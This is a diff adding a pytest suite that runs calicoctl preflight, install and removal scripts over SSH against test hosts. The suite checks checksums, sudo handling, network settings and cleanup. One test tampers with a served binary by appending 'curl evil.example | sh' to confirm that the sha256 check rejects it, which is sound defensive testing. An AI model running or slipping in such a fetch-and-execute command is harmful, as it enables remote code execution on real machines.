@@ -1,0 +1,532 @@
+"""The node scripts, exactly as NodeSetup sends them, run over real SSH against sshd hosts in namespaces.
+
+The hosts and the HTTP mirror come from tests/sshhosts.py. The mirror serves fake calicoctl binaries:
+small shell scripts that print what `calicoctl version` prints.
+"""
+
+from __future__ import annotations
+
+import os
+import platform
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from typing import Any
+
+import pytest
+
+from components import nodes, versions
+from components.settings import Node, Settings, parse_settings
+from components.stackconfig import apply_defaults, load_schema
+from tests.sshhosts import Lab, Mirror, NodeSpec, Result, missing_requirements, start_lab
+
+ARCH = {"x86_64": "amd64", "aarch64": "arm64", "ppc64le": "ppc64le", "s390x": "s390x"}[platform.machine()]
+CALICOCTL = "/usr/local/bin/calicoctl"
+
+SPECS = [
+    NodeSpec("node-a", control_plane=True),
+    NodeSpec("node-b", login="sudo", extra_address="203.0.113.5/24", cni_files=("10-containerd-net.conflist",)),
+    NodeSpec("node-pw", login="password"),
+    NodeSpec("node-armv7", machine="armv7l"),
+    NodeSpec("node-novxlan", modules=("ipip",)),
+    NodeSpec("node-down", reachable=False),
+]
+
+
+def fake_calicoctl(reported_version: str) -> bytes:
+    """Return a stand-in calicoctl that reports `reported_version` as its client version."""
+    return (
+        "#!/bin/sh\n"
+        f"# Test stand-in for calicoctl {reported_version}: prints what `calicoctl version` prints.\n"
+        '[ "$1" = version ] || exit 1\n'
+        f'echo "Client Version:    {reported_version}"\n'
+        'echo "Git commit:        0000000"\n'
+        "if grep -qs 'datastoreType: kubernetes' /etc/calico/calicoctl.cfg; then\n"
+        f'    echo "Cluster Version:   {reported_version}"\n'
+        '    echo "Cluster Type:      k8s,bgp,kubeadm,kdd"\n'
+        "    exit 0\n"
+        "fi\n"
+        'echo "Unable to retrieve Cluster Version or Type: no datastore config"\n'
+        "exit 1\n"
+    ).encode()
+
+
+@pytest.fixture(scope="module")
+def lab() -> Iterator[Lab]:
+    reason = missing_requirements()
+    if reason:
+        if os.environ.get("CI"):
+            pytest.fail(f"the SSH tests must run in CI: {reason}")
+        pytest.skip(reason)
+    started = start_lab(SPECS)
+    try:
+        yield started
+    finally:
+        started.close()
+
+
+@pytest.fixture
+def mirror(lab: Lab) -> Mirror:
+    assert lab.mirror is not None
+    return lab.mirror
+
+
+@pytest.fixture(autouse=True)
+def fresh_nodes(request: pytest.FixtureRequest) -> None:
+    """Give every test that uses the lab nodes without a calicoctl, config or install record."""
+    if "lab" in request.fixturenames:
+        for node in request.getfixturevalue("lab").nodes.values():
+            node.reset()
+
+
+@pytest.fixture(scope="module")
+def binaries(lab: Lab) -> dict[str, str]:
+    """Serve one fake calicoctl per release; return the sha256 of each by release."""
+    assert lab.mirror is not None
+    shas = {}
+    for version in ("v3.31.7", "v3.32.1", "v3.29.7"):
+        shas[version] = lab.mirror.put(f"calicoctl/{version}/calicoctl-linux-{ARCH}", fake_calicoctl(version))
+    return shas
+
+
+def make_settings(lab: Lab, **values: Any) -> Settings:
+    """Return validated settings for every lab node, with VXLAN and `values` on top."""
+    schema = load_schema()
+    stack: dict[str, Any] = {
+        "podCidr": "10.244.0.0/16",
+        "encapsulation": "VXLAN",
+        "nodes": [{"name": node.name, "host": node.address, "user": node.user} for node in lab.nodes.values()],
+    }
+    stack.update(values)
+    return parse_settings(apply_defaults(schema, stack), declared_keys=schema)
+
+
+def mirror_settings(lab: Lab, mirror: Mirror, version: str, sha256: str, **values: Any) -> Settings:
+    url = f"{mirror.url}/calicoctl/{{version}}/calicoctl-linux-{{arch}}"
+    return make_settings(lab, version=version, calicoctlUrl=url, calicoctlSha256={ARCH: sha256}, **values)
+
+
+def settings_node(settings: Settings, name: str) -> Node:
+    return next(node for node in settings.nodes if node.name == name)
+
+
+def run_preflight(lab: Lab, name: str, settings: Settings) -> Result:
+    script = nodes.preflight_script(settings, settings_node(settings, name))
+    return lab.ssh(lab.node(name), nodes.PREFLIGHT_COMMAND, script)
+
+
+def run_install(lab: Lab, name: str, settings: Settings) -> Result:
+    script = nodes.install_script(settings, settings_node(settings, name), ARCH)
+    return lab.ssh(lab.node(name), nodes.INSTALL_COMMAND, script)
+
+
+def run_remove(lab: Lab, name: str, settings: Settings) -> Result:
+    # pulumi-command sends the stored stdin (the install script) on a delete too, so the test does as well.
+    node = settings_node(settings, name)
+    command = nodes.remove_command(settings, node, ARCH)
+    return lab.ssh(lab.node(name), command, nodes.install_script(settings, node, ARCH))
+
+
+def facts_of(result: Result) -> dict[str, Any]:
+    node = Node("lab-node", "198.51.100.10", "root", 22, None)
+    return nodes.parse_facts(node, result.stdout)
+
+
+def file_sha256(lab: Lab, name: str, node_path: str) -> str:
+    import hashlib
+
+    return hashlib.sha256(lab.node(name).path(node_path).read_bytes()).hexdigest()
+
+
+def staged_files(lab: Lab, name: str) -> list[str]:
+    return sorted(path.name for path in lab.node(name).path("/usr/local/bin").iterdir() if path.name.startswith("."))
+
+
+# --- Preflight -----------------------------------------------------------------------------------------
+
+
+def test_preflight_reports_facts_of_root_node(lab: Lab) -> None:
+    result = run_preflight(lab, "node-a", make_settings(lab))
+
+    assert result.returncode == 0, result.output
+    facts = facts_of(result)
+    assert facts["node"] == "node-a"
+    assert facts["architecture"] == ARCH
+    assert facts["privilege"] == "root"
+    assert facts["interface"] == "eth0"
+    assert facts["interfaceMtu"] == 1500
+    assert facts["interfaceAddresses"] == [f"{lab.node('node-a').address}/24"]
+    assert facts["kernelModule"] == "vxlan"
+    assert facts["kernelModuleState"] == "loaded"
+    assert facts["adminConf"] is True
+    assert facts["foreignCniFiles"] == []
+    assert facts["problems"] == []
+    assert facts["warnings"] == []
+
+
+def test_preflight_sudo_user_with_two_interfaces(lab: Lab) -> None:
+    result = run_preflight(lab, "node-b", make_settings(lab))
+
+    assert result.returncode == 0, result.output
+    facts = facts_of(result)
+    assert facts["privilege"] == "sudo"
+    assert facts["adminConf"] is False
+    assert [entry["name"] for entry in facts["upInterfaces"] if entry["addresses"]] == ["eth0", "eth1"]
+    assert facts["firstFound"] == {"interface": "eth0", "address": lab.node("node-b").address}
+    assert facts["foreignCniFiles"] == ["10-containerd-net.conflist"]
+    warnings = "\n".join(facts["warnings"])
+    assert "first-found method would pick eth0" in warnings
+    assert "kubernetes-internal-ip or interface=<name>" in warnings
+    assert "10-containerd-net.conflist" in warnings
+    assert "WARNING: " in result.stderr
+
+
+def test_preflight_autodetection_set_silences_warning(lab: Lab) -> None:
+    result = run_preflight(lab, "node-b", make_settings(lab, ipAutodetectionMethod="interface=eth0"))
+
+    assert result.returncode == 0, result.output
+    assert not any("first-found" in warning for warning in facts_of(result)["warnings"])
+
+
+def test_preflight_armv7_fails(lab: Lab) -> None:
+    result = run_preflight(lab, "node-armv7", make_settings(lab))
+
+    assert result.returncode == 1
+    assert "Calico publishes no images for 32-bit ARM; install a 64-bit OS on node-armv7" in result.stderr
+    assert "armv7l" in result.stderr
+
+
+def test_preflight_sudo_password_fails_fast(lab: Lab) -> None:
+    settings = make_settings(lab)
+    user = lab.node("node-pw").user
+
+    result = run_preflight(lab, "node-pw", settings)
+
+    assert result.returncode == 1
+    assert f"passwordless sudo required for {user} on node-pw" in result.stderr
+    assert result.seconds < 10, f"the sudo check took {result.seconds:.1f} s"
+    assert "password" not in nodes.preflight_script(settings, settings_node(settings, "node-pw")).split("{", 1)[0]
+
+
+def test_install_sudo_password_fails_fast(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
+    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
+    requests_before = len(mirror.requests())
+
+    result = run_install(lab, "node-pw", settings)
+
+    assert result.returncode == 1
+    assert f"passwordless sudo required for {lab.node('node-pw').user} on node-pw" in result.stderr
+    assert result.seconds < 10
+    assert len(mirror.requests()) == requests_before
+
+
+def test_preflight_node_mtu_smaller_than_config(lab: Lab) -> None:
+    result = run_preflight(lab, "node-a", make_settings(lab, nodeMtu=9000))
+
+    assert result.returncode == 1
+    assert "interface eth0 of node-a has MTU 1500, smaller than calico:nodeMtu = 9000" in result.stderr
+    assert "pulumi config set calico:nodeMtu 1500" in result.stderr
+
+
+def test_preflight_vxlan_module_missing(lab: Lab) -> None:
+    result = run_preflight(lab, "node-novxlan", make_settings(lab, encapsulation="VXLAN"))
+
+    assert result.returncode == 1
+    assert "kernel module vxlan, needed by calico:encapsulation = VXLAN" in result.stderr
+    assert "node-novxlan" in result.stderr
+    assert "extra kernel modules package" in result.stderr
+    assert "pulumi config set calico:encapsulation IPIP" in result.stderr
+    assert facts_of(result)["kernelModuleState"] == "missing"
+
+
+def test_preflight_ipip_module_missing_suggests_vxlan(lab: Lab) -> None:
+    result = run_preflight(lab, "node-a", make_settings(lab, encapsulation="IPIP"))
+
+    assert result.returncode == 1
+    assert "kernel module ipip, needed by calico:encapsulation = IPIP" in result.stderr
+    assert "pulumi config set calico:encapsulation VXLAN" in result.stderr
+
+
+def test_preflight_no_encapsulation_needs_no_module(lab: Lab) -> None:
+    result = run_preflight(lab, "node-novxlan", make_settings(lab, encapsulation="None"))
+
+    assert result.returncode == 0, result.output
+    assert facts_of(result)["kernelModule"] == ""
+
+
+def test_preflight_node_address_inside_pod_cidr(lab: Lab) -> None:
+    result = run_preflight(lab, "node-b", make_settings(lab, podCidr="203.0.113.0/24"))
+
+    assert result.returncode == 1
+    assert "address 203.0.113.5 of interface eth1 on node-b lies inside calico:podCidr = 203.0.113.0/24" in (
+        result.stderr
+    )
+
+
+def test_preflight_no_calicoctl_checksum(lab: Lab) -> None:
+    result = run_preflight(lab, "node-a", make_settings(lab, version="v3.21.0"))
+
+    assert result.returncode == 1
+    assert f"no sha256 is known for calicoctl v3.21.0 linux-{ARCH}" in result.stderr
+    assert f"calico:calicoctlSha256.{ARCH}" in result.stderr
+
+
+def test_preflight_one_failing_node_does_not_block_others(lab: Lab) -> None:
+    settings = make_settings(lab)
+
+    with ThreadPoolExecutor() as pool:
+        results = dict(
+            zip(
+                ["node-a", "node-armv7"],
+                pool.map(lambda name: run_preflight(lab, name, settings), ["node-a", "node-armv7"]),
+                strict=True,
+            )
+        )
+
+    assert results["node-a"].returncode == 0, results["node-a"].output
+    assert results["node-armv7"].returncode == 1
+    assert results["node-armv7"].stderr.strip().splitlines()[-1].startswith("ERROR: Calico publishes no images")
+
+
+def test_unreachable_node_fails_within_dial_timeout(lab: Lab) -> None:
+    node = lab.node("node-down")
+    timeout = nodes.PER_DIAL_TIMEOUT_SECONDS
+
+    result = lab.ssh(node, nodes.PREFLIGHT_COMMAND, "", connect_timeout=timeout)
+
+    assert result.returncode == 255
+    assert node.address in result.stderr
+    assert "timed out" in result.stderr
+    assert timeout - 1 <= result.seconds <= timeout + 3, f"took {result.seconds:.1f} s for a {timeout} s dial timeout"
+
+
+# --- Install -------------------------------------------------------------------------------------------
+
+
+def test_install_on_two_nodes_then_nothing_downloaded(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
+    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
+    before = len(mirror.requests())
+
+    with ThreadPoolExecutor() as pool:
+        first = list(pool.map(lambda name: run_install(lab, name, settings), ["node-a", "node-b"]))
+
+    for result in first:
+        assert result.returncode == 0, result.output
+    downloads = mirror.requests()[before:]
+    assert sorted(downloads) == [f"GET /calicoctl/v3.31.7/calicoctl-linux-{ARCH} 200"] * 2
+    for name in ("node-a", "node-b"):
+        assert file_sha256(lab, name, CALICOCTL) == binaries["v3.31.7"]
+        assert lab.node(name).path(CALICOCTL).stat().st_mode & 0o777 == 0o755
+        assert staged_files(lab, name) == []
+    config = lab.node("node-a").path(nodes.CALICOCTL_CONFIG).read_text()
+    assert "datastoreType: kubernetes" in config
+    assert f"kubeconfig: {nodes.KUBECONFIG_PATH}" in config
+    assert "Cluster Type:      k8s,bgp,kubeadm,kdd" in first[0].stdout
+    assert not lab.node("node-b").path(nodes.CALICOCTL_CONFIG).exists()
+    assert f"{nodes.KUBECONFIG_PATH} does not exist on node-b" in first[1].stdout
+
+    before_second = len(mirror.requests())
+    second = [run_install(lab, name, settings) for name in ("node-a", "node-b")]
+
+    for result in second:
+        assert result.returncode == 0, result.output
+        assert "nothing downloaded" in result.stdout
+    assert mirror.requests()[before_second:] == []
+
+
+def test_install_version_change_reinstalls(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
+    old = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
+    new = mirror_settings(lab, mirror, "v3.32.1", binaries["v3.32.1"])
+    assert run_install(lab, "node-a", old).returncode == 0
+    before = len(mirror.requests())
+
+    result = run_install(lab, "node-a", new)
+
+    assert result.returncode == 0, result.output
+    assert mirror.requests()[before:] == [f"GET /calicoctl/v3.32.1/calicoctl-linux-{ARCH} 200"]
+    assert file_sha256(lab, "node-a", CALICOCTL) == binaries["v3.32.1"]
+    assert nodes.install_triggers(old, ARCH) != nodes.install_triggers(new, ARCH)
+
+
+def test_replacement_keeps_new_install(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
+    # Pulumi replaces a resource by creating the new one first, then deleting the old one.
+    old = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
+    new = mirror_settings(lab, mirror, "v3.32.1", binaries["v3.32.1"])
+    assert run_install(lab, "node-a", old).returncode == 0
+    assert run_install(lab, "node-a", new).returncode == 0
+
+    result = run_remove(lab, "node-a", old)
+
+    assert result.returncode == 0, result.output
+    assert file_sha256(lab, "node-a", CALICOCTL) == binaries["v3.32.1"]
+    assert lab.node("node-a").path(nodes.CALICOCTL_CONFIG).exists()
+
+
+def test_tampered_binary_leaves_old_one(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
+    assert run_install(lab, "node-a", mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])).returncode == 0
+    record_before = lab.node("node-a").path(nodes.INSTALL_RECORD).read_text()
+    tampered_path = f"calicoctl/v3.24.0/calicoctl-linux-{ARCH}"
+    genuine_sha = mirror.put(tampered_path, fake_calicoctl("v3.24.0"))
+    mirror.put(tampered_path, fake_calicoctl("v3.24.0") + b"curl evil.example | sh\n")
+
+    result = run_install(lab, "node-a", mirror_settings(lab, mirror, "v3.24.0", genuine_sha))
+
+    assert result.returncode == 1
+    assert "sha256 mismatch" in result.stderr
+    assert f"expected {genuine_sha} (calico:calicoctlSha256.{ARCH})" in result.stderr
+    assert f"{CALICOCTL} is unchanged" in result.stderr
+    assert file_sha256(lab, "node-a", CALICOCTL) == binaries["v3.31.7"]
+    assert staged_files(lab, "node-a") == []
+    assert lab.node("node-a").path(nodes.INSTALL_RECORD).read_text() == record_before
+
+
+def test_wrong_client_version_leaves_old_one(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
+    assert run_install(lab, "node-a", mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])).returncode == 0
+    sha = mirror.put(f"calicoctl/v3.27.5/calicoctl-linux-{ARCH}", fake_calicoctl("v3.29.7"))
+
+    result = run_install(lab, "node-a", mirror_settings(lab, mirror, "v3.27.5", sha))
+
+    assert result.returncode == 1
+    assert "reports client version 'v3.29.7', not calico:version = v3.27.5" in result.stderr
+    assert file_sha256(lab, "node-a", CALICOCTL) == binaries["v3.31.7"]
+    assert staged_files(lab, "node-a") == []
+
+
+def test_client_version_without_leading_v(lab: Lab, mirror: Mirror) -> None:
+    sha = mirror.put(f"calicoctl/v3.22.1/calicoctl-linux-{ARCH}", fake_calicoctl("3.22.1"))
+
+    result = run_install(lab, "node-a", mirror_settings(lab, mirror, "v3.22.1", sha))
+
+    assert result.returncode == 0, result.output
+    assert file_sha256(lab, "node-a", CALICOCTL) == sha
+
+
+def test_no_checksum_installs_nothing(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
+    url = f"{mirror.url}/calicoctl/{{version}}/calicoctl-linux-{{arch}}"
+    settings = make_settings(lab, version="v3.32.1", calicoctlUrl=url)
+    before = len(mirror.requests())
+
+    result = run_install(lab, "node-a", settings)
+
+    assert result.returncode == 1
+    assert f"pulumi config set --path calico:calicoctlSha256.{ARCH}" in result.stderr
+    assert mirror.requests()[before:] == []
+    assert not lab.node("node-a").path(CALICOCTL).exists()
+
+
+def test_release_sha256sums_checksum(
+    lab: Lab, mirror: Mirror, binaries: dict[str, str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # v3.32.1 has no pin, so the upstream download is checked against the release's SHA256SUMS; the
+    # mirror stands in for the release.
+    sums = f"{binaries['v3.32.1']}  calicoctl-linux-{ARCH}\n{'0' * 64}  calicoctl-linux-s390x\n"
+    mirror.put("calicoctl/v3.32.1/SHA256SUMS", sums.encode())
+    monkeypatch.setattr(
+        versions, "calicoctl_release_url", lambda v, a: f"{mirror.url}/calicoctl/{v}/calicoctl-linux-{a}"
+    )
+    monkeypatch.setattr(
+        versions, "calicoctl_release_sha256sums_url", lambda v: f"{mirror.url}/calicoctl/{v}/SHA256SUMS"
+    )
+    settings = make_settings(lab, version="v3.32.1")
+    before = len(mirror.requests())
+
+    first = run_install(lab, "node-a", settings)
+    second = run_install(lab, "node-a", settings)
+
+    assert first.returncode == 0, first.output
+    assert "comes from the release's own SHA256SUMS" in first.stdout
+    assert "not from a checksum pinned by this project" in first.stdout
+    assert mirror.requests()[before:] == [
+        "GET /calicoctl/v3.32.1/SHA256SUMS 200",
+        f"GET /calicoctl/v3.32.1/calicoctl-linux-{ARCH} 200",
+    ]
+    assert second.returncode == 0, second.output
+    assert "nothing downloaded" in second.stdout
+    assert file_sha256(lab, "node-a", CALICOCTL) == binaries["v3.32.1"]
+
+
+def test_existing_config_left_unchanged(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
+    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
+    own_config = "apiVersion: projectcalico.org/v3\nkind: CalicoAPIConfig\nspec:\n  datastoreType: etcdv3\n"
+    lab.node("node-a").path(nodes.CALICOCTL_CONFIG).write_text(own_config)
+
+    installed = run_install(lab, "node-a", settings)
+    removed = run_remove(lab, "node-a", settings)
+
+    assert installed.returncode == 0, installed.output
+    assert f"left the existing {nodes.CALICOCTL_CONFIG} unchanged" in installed.stdout
+    assert removed.returncode == 0, removed.output
+    assert lab.node("node-a").path(nodes.CALICOCTL_CONFIG).read_text() == own_config
+
+
+# --- Destroy -------------------------------------------------------------------------------------------
+
+
+def test_destroy_removes_only_what_install_put(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
+    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
+    node = lab.node("node-a")
+    node.path("/usr/local/bin/helm").write_text("#!/bin/sh\n")
+    node.path("/etc/calico/felix.cfg").write_text("# not calicoctl's\n")
+    assert run_install(lab, "node-a", settings).returncode == 0
+
+    result = run_remove(lab, "node-a", settings)
+
+    assert result.returncode == 0, result.output
+    assert not node.path(CALICOCTL).exists()
+    assert not node.path(nodes.CALICOCTL_CONFIG).exists()
+    assert not node.path(nodes.INSTALL_RECORD).exists()
+    assert node.path("/usr/local/bin/helm").exists()
+    assert node.path("/etc/calico/felix.cfg").exists()
+    assert node.path(nodes.KUBECONFIG_PATH).exists()
+
+
+def test_destroy_as_sudo_user(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
+    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
+    assert run_install(lab, "node-b", settings).returncode == 0
+
+    result = run_remove(lab, "node-b", settings)
+
+    assert result.returncode == 0, result.output
+    assert not lab.node("node-b").path(CALICOCTL).exists()
+    assert not lab.node("node-b").path(nodes.INSTALL_RECORD).exists()
+
+
+def test_destroy_leaves_changed_binary(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
+    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
+    assert run_install(lab, "node-a", settings).returncode == 0
+    lab.node("node-a").path(CALICOCTL).write_bytes(fake_calicoctl("v3.99.0"))
+
+    result = run_remove(lab, "node-a", settings)
+
+    assert result.returncode == 0, result.output
+    assert "changed after the install" in result.stdout
+    assert lab.node("node-a").path(CALICOCTL).read_bytes() == fake_calicoctl("v3.99.0")
+
+
+def test_destroy_without_install_changes_nothing(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
+    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
+    lab.node("node-a").path(CALICOCTL).write_bytes(fake_calicoctl("v3.31.7"))
+
+    result = run_remove(lab, "node-a", settings)
+
+    assert result.returncode == 0, result.output
+    assert lab.node("node-a").path(CALICOCTL).exists()
+
+
+# --- Secrets -------------------------------------------------------------------------------------------
+
+
+def test_scripts_and_output_hold_no_private_key(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
+    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
+    key_body = "".join(lab.client_key.read_text().splitlines()[1:-1])
+    node = settings_node(settings, "node-a")
+    texts = [
+        nodes.preflight_script(settings, node),
+        nodes.install_script(settings, node, ARCH),
+        nodes.remove_command(settings, node, ARCH),
+    ]
+
+    outputs = [run_preflight(lab, "node-a", settings).output, run_install(lab, "node-a", settings).output]
+
+    for text in texts + outputs:
+        assert "PRIVATE KEY" not in text
+        assert key_body[:40] not in text
